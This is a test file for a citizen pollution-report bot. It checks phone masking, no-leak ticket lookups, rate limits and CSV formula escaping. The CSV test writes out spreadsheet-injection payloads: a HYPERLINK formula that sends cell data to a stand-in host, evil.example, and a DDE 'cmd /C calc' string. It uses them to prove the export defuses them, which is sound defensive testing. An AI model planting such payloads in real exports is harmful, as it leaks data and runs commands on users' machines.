/**
 * Issue 11, personal data and oracles: M3 (/case in a group), L1 (phones in free text), M4 (CSV
 * formulas), L2 (ratings and lookups of tickets that are not one's own; duplicates of other units).
 */
import { execFile } from 'node:child_process';
import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { casesCsv } from '../cli/csv.js';
import { maskPhonesIn } from '../core/mask.js';
import { ROOT } from './child.js';
import { fileReport, makeApp, talker } from './dialog.helpers.js';
import { NOW } from './helpers.js';

const PHONE = '13812345678';

describe('M3 and L1: phones', () => {
  it('shows a reporter’s phone to the unit’s official in a private chat only, never in a group', async () => {
    const app = await makeApp();
    const ticket = await fileReport(talker(app, 'reporter'), {
      anonymous: false,
      phone: PHONE,
      text: `村口养猪场往河里排粪水，我邻居电话139 8765 4321也可以作证`,
    });
    const unit = (await app.cases.byTicket(ticket))?.unit as string;
    const official = { channel: 'test', userId: 'off', name: '王' };
    await app.dialog.handle(
      { ...official, chatId: 'off', messageId: 'j', text: `/join ${await app.people.invite('official', unit, NOW)}` },
      NOW,
    );
    const inPrivate =
      (await app.dialog.handle({ ...official, chatId: 'off', messageId: 'p', text: `/case ${ticket}` }, NOW)).replies[0]?.text ?? '';
    expect(inPrivate).toContain(PHONE);
    expect(inPrivate).toContain('139 8765 4321');
    const inGroup =
      (await app.dialog.handle({ ...official, chatId: '-100200', chatType: 'group', messageId: 'g', text: `/case ${ticket}` }, NOW))
        .replies[0]?.text ?? '';
    expect(inGroup).toContain('举报人电话：138******78');
    expect(inGroup).not.toContain(PHONE);
    expect(inGroup).not.toMatch(/139.?8765.?4321/);
    // An administrator sees phones masked, also inside the description.
    const admin = { channel: 'test', userId: 'adm', chatId: 'adm' };
    await app.dialog.handle({ ...admin, messageId: 'aj', text: `/join ${await app.people.invite('admin', null, NOW)}` }, NOW);
    const adminView = (await app.dialog.handle({ ...admin, messageId: 'ac', text: `/case ${ticket}` }, NOW)).replies[0]?.text ?? '';
    expect(adminView).not.toContain(PHONE);
    expect(adminView).not.toMatch(/139.?8765.?4321/);
  });

  it('masks phones typed into text in a unit’s group pushes, not in its officials’ own chats', async () => {
    const app = await makeApp();
    await app.people.bindChat('区农业农村委', 'telegram', '-100999', 'test', NOW);
    await app.dialog.handle(
      {
        channel: 'telegram',
        userId: '77',
        chatId: '77',
        messageId: 'j',
        text: `/join ${await app.people.invite('official', '区农业农村委', NOW)}`,
      },
      NOW,
    );
    await fileReport(talker(app, 'r2'), { text: `养猪场往河里排粪水，有事打我电话${PHONE}` });
    const unit = await app.outbox.list({ kind: 'unit' });
    expect(unit.find((m) => m.chatId === '-100999')?.text).toContain('138******78');
    expect(unit.find((m) => m.chatId === '-100999')?.text).not.toContain(PHONE);
    expect(unit.find((m) => m.chatId === '77')?.text).toContain(PHONE);
  });

  it('finds phone-like strings in many spellings', () => {
    for (const s of ['13812345678', '138 1234 5678', '+86 138-1234-5678', '023-47521234', '(023)4752 1234', '１３８１２３４５６７８']) {
      expect(maskPhonesIn(`电话${s}。`)).not.toMatch(/\d{4}[\s-]?\d{4}/);
    }
    for (const s of ['JJ-20261122-7KQ4M', '29.29,106.25', '2026-11-22', '978万吨']) expect(maskPhonesIn(s)).toBe(s);
  });
});

function run(args: string[], env: Record<string, string>): Promise<string> {
  return new Promise((resolve, reject) => {
    execFile(
      process.execPath,
      [join(ROOT, 'dist', 'cli', 'admin.js'), ...args],
      { cwd: ROOT, env: { ...process.env, ...env } },
      (e, out, err) => (e ? reject(new Error(`${e.message}\n${err}`)) : resolve(out)),
    );
  });
}

describe('M4 and L1: exports and administrators’ views', () => {
  it('escapes formulas, keeps a BOM and masks phones in the CSV export and the case list', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'rectify-export-'));
    const env = { DATABASE_PATH: join(dir, 'db.sqlite'), INDEX_SNAPSHOT_PATH: join(dir, 'idx.json') };
    const app = await makeApp({}, env.DATABASE_PATH);
    await fileReport(talker(app, 'evil'), { text: `=HYPERLINK("http://evil.example/?"&A1,"点我") 养猪场排粪水 电话${PHONE}` });
    const t = talker(app, 'evil2');
    await t.say('举报');
    await t.choose('cat:garbage');
    await t.say("+cmd|' /C calc'!A0 河边");
    await t.say('@SUM(1+1)*cmd 河边堆放了大量生活垃圾');
    await t.choose('skip');
    await t.choose('skip');
    await t.choose('anon');
    await t.choose('confirm');
    await app.close();
    const file = join(dir, 'cases.csv');
    await run(['export', file], env);
    const csv = readFileSync(file, 'utf8');
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    expect(csv).toContain('"\'=HYPERLINK(""http://evil.example/?""&A1,""点我"") 养猪场排粪水 电话138******78"');
    expect(csv).toContain("'+cmd|");
    expect(csv).toContain("'@SUM(1+1)");
    expect(csv).not.toContain(PHONE);
    for (const cell of csv.split(/,|\r\n/)) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+@]/);
    const listed = await run(['cases', '--json'], env);
    expect(listed).toContain('138******78');
    expect(listed).not.toContain(PHONE);
  });

  it('writes numbers as numbers and text starting with a minus as text', () => {
    const csv = casesCsv(['a', 'b', 'c'], [[-106.25, '-1+2', true]]);
    expect(csv).toBe("\uFEFFa,b,c\r\n-106.25,'-1+2,true\r\n");
  });
});

describe('L2: no oracle', () => {
  it('answers a rating of someone else’s ticket exactly as one of a ticket that does not exist', async () => {
    const app = await makeApp();
    const ticket = await fileReport(talker(app, 'owner'));
    const probe = talker(app, 'prober');
    const mine = await fileReport(probe, { text: '另一个养猪场也往河里排粪水' });
    const unknown = `${ticket.slice(0, -5)}${ticket.endsWith('ZZZZZ') ? 'YYYYY' : 'ZZZZZ'}`;
    const answer = async (t: string, how: 'choose' | 'say') => {
      if (how === 'choose') await probe.choose(`rate:${t}:yes`);
      else await probe.say(`满意 ${t}`);
      return probe.last().replace(t, 'T');
    };
    for (const how of ['choose', 'say'] as const) {
      expect(await answer(ticket, how)).toBe(await answer(unknown, how));
      expect(await answer(ticket, how)).toContain('没有找到');
    }
    expect((await app.cases.byTicket(ticket))?.satisfaction).toBeNull();
    await probe.say(`查询 ${ticket}`);
    const a = probe.last().replace(ticket, 'T');
    await probe.say(`查询 ${unknown}`);
    expect(probe.last().replace(unknown, 'T')).toBe(a);
    expect(mine).toMatch(/^JJ-/);
  });

  it('rate-limits ticket lookups per person', async () => {
    const app = await makeApp({ LOOKUPS_PER_HOUR: '3' });
    const t = talker(app, 'enumerator');
    const replies: string[] = [];
    for (let i = 0; i < 5; i++) {
      await t.say(`查询 JJ-20261122-${'ABCDE'.slice(0, 4)}${'23456'[i]}`);
      replies.push(t.last());
    }
    expect(replies.slice(0, 3).every((r) => r.includes('没有找到'))).toBe(true);
    expect(replies.slice(3).every((r) => r.includes('太频繁'))).toBe(true);
    await t.choose('rate:JJ-20261122-ABCD7:yes');
    expect(t.last()).toContain('太频繁');
    // An hour later it is allowed again.
    await t.say('查询 JJ-20261122-ABCD8', new Date(NOW.getTime() + 3601_000));
    expect(t.last()).toContain('没有找到');
  });

  it('lists another unit’s possible duplicates without their ticket numbers', async () => {
    const app = await makeApp();
    const text = '石蟆镇村口河边有人倾倒大量垃圾和粪水，河水发黑发臭';
    const other = await fileReport(talker(app, 'a'), { text });
    const t = talker(app, 'b');
    await t.say('举报');
    await t.choose('cat:garbage');
    await t.choose('town:石蟆镇');
    await t.say(text);
    await t.choose('skip');
    await t.choose('skip');
    await t.choose('anon');
    await t.choose('confirm');
    const ticket = /JJ-\d{8}-[A-Z0-9]{5}/.exec(t.last())?.[0] as string;
    expect((await app.cases.byTicket(ticket))?.unit).not.toBe((await app.cases.byTicket(other))?.unit);
    const o = talker(app, 'city');
    await o.say(`/join ${await app.people.invite('official', (await app.cases.byTicket(ticket))?.unit as string, NOW)}`);
    await o.say(`/case ${ticket}`);
    expect(o.last()).toContain('可能重复：区农业农村委办理的一件举报（待受理）');
    expect(o.last()).not.toContain(other);
  });
});
